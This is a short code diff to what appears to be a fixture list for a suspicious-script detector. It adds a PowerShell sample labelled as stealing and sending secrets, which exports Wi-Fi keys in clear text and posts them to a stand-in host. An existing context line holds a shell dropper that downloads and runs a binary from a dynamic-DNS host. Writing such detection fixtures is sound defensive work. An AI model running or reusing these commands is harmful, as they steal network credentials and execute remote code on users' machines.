@@ -112,4 +112,10 @@ export const operations: readonly Suspect[] = [
     ['script_uses_throwaway_host', 'script_runs_download_from_temp'],
     '#!/bin/sh\ncurl -s http://box7.duckdns.org/a -o /tmp/.a; chmod +x /tmp/.a; /tmp/.a\n',
   ),
+  text(
+    'wlan-away.ps1',
+    'suspicious',
+    ['script_steals_secrets', 'script_sends_secrets_away'],
+    'netsh wlan export profile key=clear folder="$env:TEMP"\nInvoke-RestMethod https://files.example/in -Method Post -InFile "$env:TEMP\\Wi-Fi-home.xml"\n',
+  ),
 ]
